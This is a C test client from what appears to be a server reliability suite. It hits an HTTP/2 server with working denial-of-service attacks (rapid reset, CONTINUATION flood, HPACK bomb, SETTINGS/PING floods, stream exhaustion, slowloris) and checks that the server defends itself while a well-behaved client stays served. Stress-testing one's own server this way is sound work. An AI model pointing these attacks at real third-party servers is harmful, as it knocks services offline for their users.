/*
 * h2abuse.c - HTTP/2 and network abuse client of the reliability suite
 * (docs/RELIABILITY.md). Attacks a server (tlogd or tlog-witness, cleartext h2c) with
 * hand-built frames over plain sockets while a well-behaved nghttp2 client
 * on its own connection keeps fetching a path and timing every request.
 *
 * Attacks (each on its own connection(s)):
 *   rapid-reset    HEADERS + RST_STREAM pairs, as fast as the socket takes
 *   continuation   HEADERS without END_HEADERS, then endless CONTINUATIONs
 *   hpack-bomb     one 4 KB dynamic-table entry referenced 16 000 times
 *                  (a 64 MB header list from a 16 KB block)
 *   settings-flood / ping-flood   frames that demand ACKs, never reading
 *   streams        open the advertised stream limit + 100 streams at once
 *   slow-preface / slow-headers / slow-body / slow-h1   one byte a second
 *   slow-frame     the bytes of a HEADERS frame, its frame header first, one a
 *                  second (the connection must go at the head deadline)
 *   idle           N connections that send the preface and then nothing
 * Expected (checked here): the abused connection is closed, sent GOAWAY or
 * has its streams reset (or, for floods, the server stays bounded and
 * answers), slowloris connections are dropped within their deadline, and
 * the good client gets every answer. Memory is measured by the caller
 * (h2abuse_run.py reads /proc/PID/status).
 *
 * Usage: h2abuse HOST PORT [--path P] [--idle N] [--slow-limit S] [--quick]
 *                [ATTACK...]   (default: all)
 * Prints one line per attack and one for the good client; exit 0 when every
 * expectation held, 1 otherwise, 2 on bad usage.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <nghttp2/nghttp2.h>

#include "common/clock.h"
#include "common/dec.h"
#include "common/err.h"

#define PREFACE "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
#define F_DATA 0
#define F_HEADERS 1
#define F_RST 3
#define F_SETTINGS 4
#define F_PING 6
#define F_GOAWAY 7
#define F_CONT 9
#define FL_END_STREAM 0x1
#define FL_END_HEADERS 0x4

static const char *g_host = "127.0.0.1";
static int g_port;
static const char *g_path = "/checkpoint";
static int g_quick;
static int g_idle = 2000;
static double g_slow_limit = 45.0;

static int dial(void)
{
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0)
        return -1;
    struct sockaddr_in a;
    memset(&a, 0, sizeof(a));
    a.sin_family = AF_INET;
    a.sin_port = htons((uint16_t)g_port);
    inet_pton(AF_INET, g_host, &a.sin_addr);
    if (connect(fd, (struct sockaddr *)&a, sizeof(a)) != 0) {
        close(fd);
        return -1;
    }
    int one = 1;
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
    return fd;
}

/* Writes all of buf before the deadline; 0, or -1 when the peer is gone or
 * stopped reading until the deadline. */
static int write_all(int fd, const uint8_t *buf, size_t len, double deadline)
{
    while (len > 0) {
        ssize_t n = send(fd, buf, len, MSG_NOSIGNAL | MSG_DONTWAIT);
        if (n > 0) {
            buf += n;
            len -= (size_t)n;
            continue;
        }
        if (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR)
            return -1;
        double left = deadline - tl_mono_s();
        if (left <= 0)
            return -1;
        struct pollfd p = {fd, POLLOUT, 0};
        poll(&p, 1, (int)(left * 1000) + 1);
        if (p.revents & (POLLERR | POLLHUP))
            return -1;
    }
    return 0;
}

static size_t frame(uint8_t *out, uint32_t len, uint8_t type, uint8_t flags, uint32_t sid)
{
    out[0] = (uint8_t)(len >> 16);
    out[1] = (uint8_t)(len >> 8);
    out[2] = (uint8_t)len;
    out[3] = type;
    out[4] = flags;
    out[5] = (uint8_t)(sid >> 24) & 0x7f;
    out[6] = (uint8_t)(sid >> 16);
    out[7] = (uint8_t)(sid >> 8);
    out[8] = (uint8_t)sid;
    return 9;
}

/* What the server sent on an abused connection. */
typedef struct seen {
    int closed; /* EOF or reset */
    int goaway; /* GOAWAY frames */
    uint32_t goaway_code;
    long rst;      /* RST_STREAM frames */
    long headers;  /* HEADERS frames (responses) */
    long settings; /* SETTINGS (incl. ACKs) */
    long pings;    /* PING ACKs */
    uint32_t max_streams;
    double closed_at;
    uint8_t buf[1 << 16];
    size_t have;
} seen;

/* Reads and parses what is available (waiting up to wait_s for the first
 * byte); returns 1 if the connection is closed. */
static int drain(int fd, seen *s, double wait_s)
{
    double end = tl_mono_s() + wait_s;
    for (;;) {
        struct pollfd p = {fd, POLLIN, 0};
        double left = end - tl_mono_s();
        int r = poll(&p, 1, left > 0 ? (int)(left * 1000) : 0);
        if (r <= 0)
            return s->closed;
        ssize_t n = recv(fd, s->buf + s->have, sizeof(s->buf) - s->have, MSG_DONTWAIT);
        if (n == 0 || (n < 0 && errno != EAGAIN && errno != EINTR)) {
            if (!s->closed)
                s->closed_at = tl_mono_s();
            s->closed = 1;
            return 1;
        }
        if (n < 0)
            continue;
        s->have += (size_t)n;
        size_t off = 0;
        if (s->have >= 8 && memcmp(s->buf, "HTTP/1.", 7) == 0) {
            s->headers++; /* an HTTP/1.1 answer: count it, drop the bytes */
            s->have = 0;
            continue;
        }
        while (s->have - off >= 9) {
            uint32_t len =
                ((uint32_t)s->buf[off] << 16) | ((uint32_t)s->buf[off + 1] << 8) | s->buf[off + 2];
            if (s->have - off < 9 + (size_t)len) {
                if (9 + (size_t)len > sizeof(s->buf)) { /* giant frame: skip what we have */
                    s->have = 0;
                    off = 0;
                }
                break;
            }
            uint8_t type = s->buf[off + 3], flags = s->buf[off + 4];
            const uint8_t *pl = s->buf + off + 9;
            if (type == F_GOAWAY) {
                s->goaway++;
                if (len >= 8)
                    s->goaway_code = ((uint32_t)pl[4] << 24) | ((uint32_t)pl[5] << 16) |
                                     ((uint32_t)pl[6] << 8) | pl[7];
            } else if (type == F_RST) {
                s->rst++;
            } else if (type == F_HEADERS) {
                s->headers++;
            } else if (type == F_SETTINGS) {
                s->settings++;
                if (!(flags & 1))
                    for (uint32_t i = 0; i + 6 <= len; i += 6)
                        if (((pl[i] << 8) | pl[i + 1]) == 3)
                            s->max_streams = ((uint32_t)pl[i + 2] << 24) |
                                             ((uint32_t)pl[i + 3] << 16) |
                                             ((uint32_t)pl[i + 4] << 8) | pl[i + 5];
            } else if (type == F_PING && (flags & 1)) {
                s->pings++;
            }
            off += 9 + len;
        }
        memmove(s->buf, s->buf + off, s->have - off);
        s->have -= off;
        end = tl_mono_s() + 0.05; /* keep reading while data flows */
    }
}

/* Preface + empty SETTINGS + SETTINGS ACK-less start. */
static int h2_start(int fd)
{
    uint8_t b[64];
    memcpy(b, PREFACE, 24);
    size_t n = 24 + frame(b + 24, 0, F_SETTINGS, 0, 0);
    return write_all(fd, b, n, tl_mono_s() + 5);
}

/* HPACK block for a request, with a deflater that never indexes (so the
 * block can be sent again and again). */
static size_t req_block(uint8_t *out, size_t cap, const char *method, const char *path)
{
    nghttp2_hd_deflater *d;
    if (nghttp2_hd_deflate_new(&d, 0) != 0)
        return 0;
    char auth[64];
    snprintf(auth, sizeof(auth), "%s:%d", g_host, g_port);
    nghttp2_nv nva[] = {
        {(uint8_t *)":method", (uint8_t *)method, 7, strlen(method), NGHTTP2_NV_FLAG_NONE},
        {(uint8_t *)":scheme", (uint8_t *)"http", 7, 4, NGHTTP2_NV_FLAG_NONE},
        {(uint8_t *)":path", (uint8_t *)path, 5, strlen(path), NGHTTP2_NV_FLAG_NONE},
        {(uint8_t *)":authority", (uint8_t *)auth, 10, strlen(auth), NGHTTP2_NV_FLAG_NONE},
    };
    ssize_t n = nghttp2_hd_deflate_hd(d, out, cap, nva, 4);
    nghttp2_hd_deflate_del(d);
    return n > 0 ? (size_t)n : 0;
}

static int g_fail;

static void report(const char *attack, int ok, const char *fmt, ...)
    __attribute__((format(printf, 3, 4)));
static void report(const char *attack, int ok, const char *fmt, ...)
{
    char msg[512];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(msg, sizeof(msg), fmt, ap);
    va_end(ap);
    printf("%-15s %s  %s\n", attack, ok ? "ok  " : "FAIL", msg);
    fflush(stdout);
    if (!ok)
        g_fail = 1;
}

/* ---- attacks ------------------------------------------------------------ */

static void atk_rapid_reset(void)
{
    int fd = dial();
    seen *s = calloc(1, sizeof(*s));
    if (fd < 0 || !s || h2_start(fd) != 0) {
        report("rapid-reset", 0, "cannot connect");
        goto out;
    }
    uint8_t blk[256];
    size_t bl = req_block(blk, sizeof(blk), "GET", g_path);
    long n = g_quick ? 20000 : 100000, sent = 0;
    uint8_t *buf = malloc(200 * (9 + bl + 13));
    double t0 = tl_mono_s(), deadline = t0 + 20;
    while (sent < n && buf) {
        size_t off = 0;
        for (int i = 0; i < 200 && sent < n; i++, sent++) {
            uint32_t sid = (uint32_t)(1 + 2 * sent);
            off += frame(buf + off, (uint32_t)bl, F_HEADERS, FL_END_HEADERS | FL_END_STREAM, sid);
            memcpy(buf + off, blk, bl);
            off += bl;
            off += frame(buf + off, 4, F_RST, 0, sid);
            memcpy(buf + off, "\0\0\0\x08", 4); /* CANCEL */
            off += 4;
        }
        if (write_all(fd, buf, off, deadline) != 0)
            break;
        drain(fd, s, 0);
        if (s->closed || s->goaway)
            break;
    }
    drain(fd, s, 1.0);
    double dt = tl_mono_s() - t0;
    /* Accept: the server cut the connection short; or it answered a
     * bounded number of them (it never queued work for every reset stream). */
    int ok = s->closed || s->goaway;
    report("rapid-reset", ok,
           "%ld HEADERS+RST sent in %.2fs; server: %s%s goaway=%d(code %u) "
           "responses=%ld",
           sent, dt, s->closed ? "closed" : "open", "", s->goaway, s->goaway_code, s->headers);
    free(buf);
out:
    if (fd >= 0)
        close(fd);
    free(s);
}

static void atk_continuation(void)
{
    int fd = dial();
    seen *s = calloc(1, sizeof(*s));
    if (fd < 0 || !s || h2_start(fd) != 0) {
        report("continuation", 0, "cannot connect");
        goto out;
    }
    uint8_t blk[256];
    size_t bl = req_block(blk, sizeof(blk), "GET", g_path);
    uint8_t hdr[300];
    size_t off = frame(hdr, (uint32_t)bl, F_HEADERS, FL_END_STREAM, 1);
    memcpy(hdr + off, blk, bl);
    write_all(fd, hdr, off + bl, tl_mono_s() + 5);
    /* Each CONTINUATION: literal header fields without indexing, new name
     * (0x00, len, name, len, value), 16 KB of them. */
    static uint8_t cont[9 + 16384];
    size_t pl = 0;
    uint8_t *p = cont + 9;
    while (pl + 2 + 5 + 2 + 100 <= 16384) {
        p[pl++] = 0x00;
        p[pl++] = 5;
        memcpy(p + pl, "x-pad", 5);
        pl += 5;
        p[pl++] = 100;
        memset(p + pl, 'a', 100);
        pl += 100;
    }
    frame(cont, (uint32_t)pl, F_CONT, 0, 1);
    long n = g_quick ? 2000 : 20000, sent = 0;
    double t0 = tl_mono_s(), deadline = t0 + 20;
    for (; sent < n; sent++) {
        if (write_all(fd, cont, 9 + pl, deadline) != 0)
            break;
        if (sent % 64 == 0) {
            drain(fd, s, 0);
            if (s->closed || s->goaway)
                break;
        }
    }
    drain(fd, s, 1.0);
    int ok = s->closed || s->goaway || s->rst;
    report("continuation", ok,
           "%ld CONTINUATION frames (%.1f MB) in %.2fs; server: %s "
           "goaway=%d(code %u) rst=%ld",
           sent, (double)sent * (double)pl / 1e6, tl_mono_s() - t0, s->closed ? "closed" : "open",
           s->goaway, s->goaway_code, s->rst);
out:
    if (fd >= 0)
        close(fd);
    free(s);
}

static size_t hpack_int(uint8_t *out, uint8_t first, int prefix, size_t v)
{
    size_t max = ((size_t)1 << prefix) - 1, n = 0;
    if (v < max) {
        out[n++] = (uint8_t)(first | v);
        return n;
    }
    out[n++] = (uint8_t)(first | max);
    v -= max;
    while (v >= 128) {
        out[n++] = (uint8_t)(0x80 | (v & 0x7f));
        v >>= 7;
    }
    out[n++] = (uint8_t)v;
    return n;
}

static void atk_hpack_bomb(void)
{
    int fd = dial();
    seen *s = calloc(1, sizeof(*s));
    if (fd < 0 || !s || h2_start(fd) != 0) {
        report("hpack-bomb", 0, "cannot connect");
        goto out;
    }
    size_t refs = 16000, cap = 4096 + refs + 256, bl = 0;
    uint8_t *blk = malloc(cap);
    blk[bl++] = 0x82;                      /* :method GET */
    blk[bl++] = 0x86;                      /* :scheme http */
    bl += hpack_int(blk + bl, 0x00, 4, 4); /* :path, literal w/o indexing, name idx 4 */
    bl += hpack_int(blk + bl, 0x00, 7, strlen(g_path));
    memcpy(blk + bl, g_path, strlen(g_path));
    bl += strlen(g_path);
    /* x-bomb: 4000 bytes, literal with incremental indexing (entry 62). */
    blk[bl++] = 0x40;
    bl += hpack_int(blk + bl, 0x00, 7, 6);
    memcpy(blk + bl, "x-bomb", 6);
    bl += 6;
    bl += hpack_int(blk + bl, 0x00, 7, 4000);
    memset(blk + bl, 'b', 4000);
    bl += 4000;
    for (size_t i = 0; i < refs; i++)
        blk[bl++] = 0x80 | 62;
    /* HEADERS + CONTINUATIONs of at most 16384 bytes. */
    uint8_t *fb = malloc(bl + 9 * (bl / 16384 + 2));
    size_t fo = 0, done = 0;
    while (done < bl) {
        size_t chunk = bl - done > 16384 ? 16384 : bl - done;
        uint8_t flags = (uint8_t)(done + chunk == bl ? FL_END_HEADERS : 0);
        if (done == 0)
            flags |= FL_END_STREAM;
        fo += frame(fb + fo, (uint32_t)chunk, done == 0 ? F_HEADERS : F_CONT, flags, 1);
        memcpy(fb + fo, blk + done, chunk);
        fo += chunk;
        done += chunk;
    }
    double t0 = tl_mono_s();
    int wr = write_all(fd, fb, fo, t0 + 10);
    /* A sanitizer build may take seconds to decode it: wait for a verdict. */
    for (int i = 0; i < 30 && !(s->closed || s->goaway || s->rst || s->headers); i++)
        drain(fd, s, 0.5);
    /* The request must not be served as is: a reset, a 431, GOAWAY or close. */
    int ok = s->closed || s->goaway || s->rst || s->headers > 0;
    report("hpack-bomb", ok,
           "%zu-byte block decoding to %.1f MB of headers (write %s); server: "
           "%s goaway=%d(code %u) rst=%ld response-headers=%ld",
           bl, (double)refs * 4038 / 1e6, wr ? "cut" : "done", s->closed ? "closed" : "open",
           s->goaway, s->goaway_code, s->rst, s->headers);
    free(fb);
    free(blk);
out:
    if (fd >= 0)
        close(fd);
    free(s);
}

static void atk_flood(const char *name, uint8_t type)
{
    int fd = dial();
    seen *s = calloc(1, sizeof(*s));
    if (fd < 0 || !s || h2_start(fd) != 0) {
        report(name, 0, "cannot connect");
        goto out;
    }
    long n = g_quick ? 1000000 : 3000000, sent = 0;
    uint8_t buf[1000 * 17];
    size_t off = 0;
    for (int i = 0; i < 1000; i++) {
        if (type == F_PING) {
            off += frame(buf + off, 8, F_PING, 0, 0);
            memcpy(buf + off, "abusive!", 8);
            off += 8;
        } else {
            off += frame(buf + off, 0, F_SETTINGS, 0, 0);
        }
    }
    double t0 = tl_mono_s(), deadline = t0 + 15;
    /* Write without reading: a server that queues every ACK grows without
     * bound; one that defends itself stops reading or hangs up. */
    int stalled = 0;
    while (sent < n) {
        if (write_all(fd, buf, off, deadline) != 0) {
            stalled = 1;
            break;
        }
        sent += 1000;
    }
    drain(fd, s, 1.0);
    /* ok: closed/GOAWAY, or write side stalled (server stopped reading:
     * bounded), or everything ACKed (nothing left queued). */
    int ok = s->closed || s->goaway || stalled;
    report(name, ok, "%ld frames written in %.2fs%s; server: %s goaway=%d(code %u)", sent,
           tl_mono_s() - t0, stalled ? " (then the server stopped reading)" : "",
           s->closed ? "closed" : "open", s->goaway, s->goaway_code);
out:
    if (fd >= 0)
        close(fd);
    free(s);
}

static void atk_streams(void)
{
    int fd = dial();
    seen *s = calloc(1, sizeof(*s));
    if (fd < 0 || !s || h2_start(fd) != 0) {
        report("streams", 0, "cannot connect");
        goto out;
    }
    drain(fd, s, 1.0); /* the server's SETTINGS */
    uint32_t limit = s->max_streams ? s->max_streams : 100;
    uint32_t n = limit + 100;
    uint8_t blk[256];
    size_t bl = req_block(blk, sizeof(blk), "POST", "/add");
    uint8_t *buf = malloc((size_t)n * (9 + bl));
    size_t off = 0;
    for (uint32_t i = 0; i < n; i++) {
        off += frame(buf + off, (uint32_t)bl, F_HEADERS, FL_END_HEADERS, 1 + 2 * i);
        memcpy(buf + off, blk, bl);
        off += bl;
    }
    long rst0 = s->rst;
    write_all(fd, buf, off, tl_mono_s() + 10);
    drain(fd, s, 2.0);
    long refused = s->rst - rst0;
    int ok = s->closed || s->goaway || refused >= 100;
    report("streams", ok,
           "advertised limit %u (%s); opened %u streams with pending bodies; "
           "server: %s goaway=%d rst=%ld",
           limit, s->max_streams ? "from SETTINGS" : "assumed", n, s->closed ? "closed" : "open",
           s->goaway, refused);
    free(buf);
out:
    if (fd >= 0)
        close(fd);
    free(s);
}

/* ---- slowloris ---------------------------------------------------------- */

typedef struct slow_arg {
    const char *name;
    int kind; /* 0 preface, 1 headers, 2 body, 3 HTTP/1.1 headers, 4 a HEADERS frame */
    int ok;
    char msg[256];
} slow_arg;

static void *slow_thread(void *vp)
{
    slow_arg *a = vp;
    int fd = dial();
    seen *s = calloc(1, sizeof(*s));
    if (fd < 0 || !s) {
        snprintf(a->msg, sizeof(a->msg), "cannot connect");
        free(s);
        if (fd >= 0)
            close(fd);
        return NULL;
    }
    double t0 = tl_mono_s();
    uint8_t b[512], whole[300];
    size_t n = 0, wn = 0;
    if (a->kind == 4) {
        h2_start(fd);
        uint8_t blk[256];
        size_t bl = req_block(blk, sizeof(blk), "GET", g_path);
        wn = frame(whole, (uint32_t)bl, F_HEADERS, FL_END_HEADERS | FL_END_STREAM, 1);
        memcpy(whole + wn, blk, bl);
        wn += bl;
    }
    if (a->kind == 1 || a->kind == 2) {
        h2_start(fd);
        uint8_t blk[256];
        size_t bl = req_block(blk, sizeof(blk), a->kind == 2 ? "POST" : "GET",
                              a->kind == 2 ? "/add" : g_path);
        n = frame(b, (uint32_t)bl, F_HEADERS, a->kind == 2 ? FL_END_HEADERS : 0, 1);
        memcpy(b + n, blk, bl);
        write_all(fd, b, n + bl, tl_mono_s() + 5);
    }
    long bytes = 0;
    while (tl_mono_s() - t0 < g_slow_limit) {
        if (a->kind == 0) {
            b[0] = (uint8_t)PREFACE[bytes % 16]; /* never completes the preface */
            n = 1;
        } else if (a->kind == 1) {
            /* a literal header, sent one byte-long CONTINUATION at a time */
            n = frame(b, 1, F_CONT, 0, 1);
            b[n++] = (uint8_t)(bytes == 0 ? 0x00 : 'a');
        } else if (a->kind == 2) {
            n = frame(b, 1, F_DATA, 0, 1);
            b[n++] = 'x';
        } else if (a->kind == 4) {
            if ((size_t)bytes >= wn) /* all sent before any deadline: no more */
                break;
            b[0] = whole[bytes];
            n = 1;
        } else {
            const char *h = bytes == 0 ? "POST /add HTTP/1.1\r\nHost: x\r\n" : "X: y\r\n";
            n = strlen(h);
            memcpy(b, h, n);
        }
        if (write_all(fd, b, n, tl_mono_s() + 2) != 0)
            break;
        bytes++;
        if (drain(fd, s, 1.0))
            break;
        if ((a->kind == 1 && (s->goaway || s->rst)) || (a->kind == 4 && s->goaway))
            break;
        if (a->kind == 2 && (s->goaway || s->rst || s->headers))
            break;
    }
    drain(fd, s, 0.2);
    double dt = tl_mono_s() - t0;
    a->ok = s->closed || s->goaway || (a->kind >= 1 && a->kind != 4 && (s->rst || s->headers));
    snprintf(a->msg, sizeof(a->msg), "%s after %.1fs (%ld slow writes)%s",
             s->closed                ? "closed"
             : s->goaway              ? "GOAWAY"
             : (s->rst || s->headers) ? "reset/answered"
                                      : "still open",
             dt, bytes, a->ok ? "" : " - no deadline enforced");
    close(fd);
    free(s);
    return NULL;
}

/* ---- the well-behaved client (nghttp2) ---------------------------------- */

typedef struct good {
    pthread_t th;
    volatile int stop;
    long ok, fail;
    double lat[200000];
    long nlat;
    double worst;
    char last_err[160];
    /* per-request */
    int fd;
    int done;
    int status;
} good;

static ssize_t g_send_cb(nghttp2_session *s, const uint8_t *d, size_t n, int flags, void *u)
{
    good *g = u;
    (void)s;
    (void)flags;
    if (write_all(g->fd, d, n, tl_mono_s() + 5) != 0)
        return NGHTTP2_ERR_CALLBACK_FAILURE;
    return (ssize_t)n;
}

static int g_header_cb(nghttp2_session *s, const nghttp2_frame *f, const uint8_t *name, size_t nl,
                       const uint8_t *value, size_t vl, uint8_t flags, void *u)
{
    good *g = u;
    (void)s;
    (void)f;
    (void)flags;
    uint64_t st;
    if (nl == 7 && memcmp(name, ":status", 7) == 0 && vl == 3 &&
        tl_dec_parse_u64((const char *)value, vl, 999, &st) == TL_OK)
        g->status = (int)st;
    return 0;
}

static int g_close_cb(nghttp2_session *s, int32_t sid, uint32_t code, void *u)
{
    good *g = u;
    (void)s;
    (void)sid;
    (void)code;
    g->done = 1;
    return 0;
}

static int g_data_cb(nghttp2_session *s, uint8_t flags, int32_t sid, const uint8_t *d, size_t n,
                     void *u)
{
    (void)s;
    (void)flags;
    (void)sid;
    (void)d;
    (void)n;
    (void)u;
    return 0;
}

static void *good_thread(void *vp)
{
    good *g = vp;
    nghttp2_session_callbacks *cb;
    nghttp2_session_callbacks_new(&cb);
    nghttp2_session_callbacks_set_send_callback(cb, g_send_cb);
    nghttp2_session_callbacks_set_on_header_callback(cb, g_header_cb);
    nghttp2_session_callbacks_set_on_stream_close_callback(cb, g_close_cb);
    nghttp2_session_callbacks_set_on_data_chunk_recv_callback(cb, g_data_cb);
    nghttp2_session *sess = NULL;
    g->fd = -1;
    char auth[64];
    snprintf(auth, sizeof(auth), "%s:%d", g_host, g_port);
    while (!g->stop) {
        if (g->fd < 0) {
            g->fd = dial();
            if (g->fd < 0) {
                g->fail++;
                snprintf(g->last_err, sizeof(g->last_err), "connect: %s", strerror(errno));
                usleep(50000);
                continue;
            }
            nghttp2_session_client_new(&sess, cb, g);
            nghttp2_submit_settings(sess, NGHTTP2_FLAG_NONE, NULL, 0);
        }
        nghttp2_nv nva[] = {
            {(uint8_t *)":method", (uint8_t *)"GET", 7, 3, NGHTTP2_NV_FLAG_NONE},
            {(uint8_t *)":scheme", (uint8_t *)"http", 7, 4, NGHTTP2_NV_FLAG_NONE},
            {(uint8_t *)":path", (uint8_t *)g_path, 5, strlen(g_path), NGHTTP2_NV_FLAG_NONE},
            {(uint8_t *)":authority", (uint8_t *)auth, 10, strlen(auth), NGHTTP2_NV_FLAG_NONE},
        };
        g->done = 0;
        g->status = 0;
        double t0 = tl_mono_s();
        int ok = nghttp2_submit_request(sess, NULL, nva, 4, NULL, NULL) > 0 &&
                 nghttp2_session_send(sess) == 0;
        while (ok && !g->done) {
            struct pollfd p = {g->fd, POLLIN, 0};
            double left = t0 + 10 - tl_mono_s();
            if (left <= 0 || poll(&p, 1, (int)(left * 1000)) <= 0) {
                ok = 0;
                snprintf(g->last_err, sizeof(g->last_err), "no answer within 10 s");
                break;
            }
            uint8_t buf[16384];
            ssize_t n = recv(g->fd, buf, sizeof(buf), 0);
            if (n <= 0) {
                ok = 0;
                snprintf(g->last_err, sizeof(g->last_err), "connection closed by the server");
                break;
            }
            if (nghttp2_session_mem_recv(sess, buf, (size_t)n) < 0 ||
                nghttp2_session_send(sess) != 0) {
                ok = 0;
                snprintf(g->last_err, sizeof(g->last_err), "HTTP/2 error");
            }
        }
        double dt = tl_mono_s() - t0;
        if (ok && g->status >= 200 && g->status < 500) {
            g->ok++;
            if (g->nlat < (long)(sizeof(g->lat) / sizeof(g->lat[0])))
                g->lat[g->nlat++] = dt;
            if (dt > g->worst)
                g->worst = dt;
        } else {
            g->fail++;
            if (ok)
                snprintf(g->last_err, sizeof(g->last_err), "status %d", g->status);
            nghttp2_session_del(sess);
            sess = NULL;
            close(g->fd);
            g->fd = -1;
        }
        usleep(20000);
    }
    if (sess)
        nghttp2_session_del(sess);
    if (g->fd >= 0)
        close(g->fd);
    nghttp2_session_callbacks_del(cb);
    return NULL;
}

static int cmp_d(const void *a, const void *b)
{
    double x = *(const double *)a, y = *(const double *)b;
    return x < y ? -1 : x > y;
}

/* ---- main --------------------------------------------------------------- */

static int want(char **list, int n, const char *name)
{
    if (n == 0)
        return 1;
    for (int i = 0; i < n; i++)
        if (strcmp(list[i], name) == 0)
            return 1;
    return 0;
}

int main(int argc, char **argv)
{
    char *names[32];
    int nn = 0;
    if (argc < 3) {
        fprintf(stderr, "usage: h2abuse HOST PORT [--path P] [--idle N] [--slow-limit S] "
                        "[--quick] [ATTACK...]\n");
        return 2;
    }
    uint64_t n;
    g_host = argv[1];
    if (tl_dec_parse_range(argv[2], 1, 65535, &n) != TL_OK) {
        fprintf(stderr, "h2abuse: PORT %s: not a port number\n", argv[2]);
        return 2;
    }
    g_port = (int)n;
    for (int i = 3; i < argc; i++) {
        if (strcmp(argv[i], "--path") == 0 && i + 1 < argc)
            g_path = argv[++i];
        else if (strcmp(argv[i], "--idle") == 0 && i + 1 < argc &&
                 tl_dec_parse_range(argv[i + 1], 0, 1000000, &n) == TL_OK) {
            g_idle = (int)n;
            i++;
        } else if (strcmp(argv[i], "--slow-limit") == 0 && i + 1 < argc)
            g_slow_limit = atof(argv[++i]);
        else if (strcmp(argv[i], "--quick") == 0)
            g_quick = 1;
        else if (argv[i][0] == '-' || nn == 32) {
            fprintf(stderr, "h2abuse: unknown option %s\n", argv[i]);
            return 2;
        } else
            names[nn++] = argv[i];
    }
    if (g_port <= 0 || g_port > 65535) {
        fprintf(stderr, "h2abuse: bad port\n");
        return 2;
    }
    signal(SIGPIPE, SIG_IGN);
    struct rlimit rl;
    if (getrlimit(RLIMIT_NOFILE, &rl) == 0) {
        rl.rlim_cur = rl.rlim_max;
        setrlimit(RLIMIT_NOFILE, &rl);
    }

    good *g = calloc(1, sizeof(*g));
    if (!g)
        return 1;
    pthread_create(&g->th, NULL, good_thread, g);
    usleep(200000);

    /* Slowloris connections run in the background during the other attacks. */
    static slow_arg slow[] = {{"slow-preface", 0, 0, ""},
                              {"slow-headers", 1, 0, ""},
                              {"slow-body", 2, 0, ""},
                              {"slow-h1", 3, 0, ""},
                              {"slow-frame", 4, 0, ""}};
    pthread_t sth[5];
    int sstarted[5] = {0};
    for (int i = 0; i < 5; i++)
        if (want(names, nn, slow[i].name))
            sstarted[i] = pthread_create(&sth[i], NULL, slow_thread, &slow[i]) == 0;

    if (want(names, nn, "rapid-reset"))
        atk_rapid_reset();
    if (want(names, nn, "continuation"))
        atk_continuation();
    if (want(names, nn, "hpack-bomb"))
        atk_hpack_bomb();
    if (want(names, nn, "settings-flood"))
        atk_flood("settings-flood", F_SETTINGS);
    if (want(names, nn, "ping-flood"))
        atk_flood("ping-flood", F_PING);
    if (want(names, nn, "streams"))
        atk_streams();
    if (want(names, nn, "idle")) {
        int *fds = malloc(sizeof(int) * (size_t)g_idle);
        int open_ok = 0;
        double t0 = tl_mono_s();
        for (int i = 0; i < g_idle; i++) {
            fds[i] = dial();
            if (fds[i] >= 0 && h2_start(fds[i]) == 0)
                open_ok++;
        }
        printf("idle-open       %d connections open (%.2fs); holding 3 s\n", open_ok,
               tl_mono_s() - t0);
        fflush(stdout);
        /* The caller reads the server's RSS now (marker line above). */
        sleep(3);
        long closed = 0;
        for (int i = 0; i < g_idle; i++) {
            if (fds[i] < 0)
                continue;
            struct pollfd p = {fds[i], POLLIN, 0};
            if (poll(&p, 1, 0) > 0) {
                char tmp[256];
                if (recv(fds[i], tmp, sizeof(tmp), MSG_DONTWAIT | MSG_PEEK) == 0)
                    closed++;
            }
            close(fds[i]);
        }
        report("idle", open_ok > 0,
               "%d idle h2c connections held 3 s (%ld closed by the "
               "server meanwhile); good client kept being served",
               open_ok, closed);
        free(fds);
    }
    for (int i = 0; i < 5; i++)
        if (sstarted[i]) {
            pthread_join(sth[i], NULL);
            report(slow[i].name, slow[i].ok, "%s", slow[i].msg);
        }

    g->stop = 1;
    pthread_join(g->th, NULL);
    qsort(g->lat, (size_t)g->nlat, sizeof(double), cmp_d);
    double p50 = g->nlat ? g->lat[g->nlat / 2] : 0, p99 = g->nlat ? g->lat[g->nlat * 99 / 100] : 0;
    int gok = g->fail == 0 && g->ok > 0;
    report("good-client", gok,
           "%ld requests ok, %ld failed%s%s; latency p50 %.1f ms, p99 %.1f "
           "ms, max %.1f ms",
           g->ok, g->fail, g->fail ? ": " : "", g->fail ? g->last_err : "", p50 * 1e3, p99 * 1e3,
           g->worst * 1e3);
    free(g);
    return g_fail ? 1 : 0;
}
